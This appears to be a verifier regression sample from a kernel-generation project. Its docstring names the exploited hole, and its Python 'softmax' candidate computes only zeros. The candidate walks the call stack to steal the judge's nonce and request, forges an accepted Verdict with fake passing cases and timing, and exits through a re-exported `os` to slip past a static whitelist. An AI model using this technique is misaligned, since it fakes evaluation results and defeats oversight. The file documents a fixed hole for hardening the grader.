"""HOLE 2 (allowed modules re-export forbidden ones): a forged verdict, through `typing.sys` and
the `os` module that `triton.language.core.knobs` imports.

The sandbox's child reads a nonce on stdin and proves its result with it; but the nonce and the
result folder are locals of the child's `main()`, a few frames up the stack from the candidate.
This candidate walks up (`typing.sys._getframe`), takes the nonce, the folder and the judge's
request, builds an accepted Verdict with the judge's own classes (`typing.sys.modules`), writes it
where the child would, and ends the process before the judge can overwrite it
(`triton.language.core.knobs.os._exit`, a path no static rule resolves to `os`). It computes
nothing. Without the judge's frames it writes zeros.

HEAD (c167456), `kernelgen verify softmax FILE --device cpu`: ACCEPTED (exit 0, every case
"passed", "seconds": 31.4, after under ten seconds of wall time, nearly all of it start-up).
Fixed verifier: rejected, "static" (closed whitelist: neither `typing.sys` nor
`triton.language.core.knobs`).
"""

import typing

import torch
import triton
import triton.language as tl


@triton.jit
def _zeros_kernel(y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(y_ptr + offs, tl.zeros([BLOCK], tl.float32).to(y_ptr.dtype.element_ty), mask=offs < n)


def _forge():
    judge, nonce, folder = None, None, None
    frame = typing.sys._getframe(1)
    while frame is not None:
        names = frame.f_locals
        if judge is None and "self" in names and hasattr(names["self"], "req"):
            judge = names["self"]
        if "nonce" in names and "folder" in names:
            nonce, folder = names["nonce"], names["folder"]
        frame = frame.f_back
    if judge is None or nonce is None:
        return
    records = typing.sys.modules["kernelgen.records"]
    req = judge.req
    cases = [
        records.CaseResult(name=c.name, status="passed" if c.interpreter else "not_run")
        for c in judge.spec.cases
    ]
    verdict = records.Verdict(
        op=req.op, candidate=req.path, sha256=req.sha256, accepted=True, device=req.device,
        seed=req.seed, cases=cases, kernels=["_softmax_kernel"], seconds=31.4,
    )
    text = typing.sys.modules["json"].dumps({"nonce": nonce, "result": verdict.model_dump_json()})
    folder.joinpath("result.json").write_text(text)
    triton.language.core.knobs.os._exit(0)


def softmax(x):
    _forge()
    y = torch.empty(x.shape, dtype=x.dtype, device=x.device)
    n = y.numel()
    _zeros_kernel[(triton.cdiv(max(n, 1), 1024),)](y, n, BLOCK=1024)
    return y
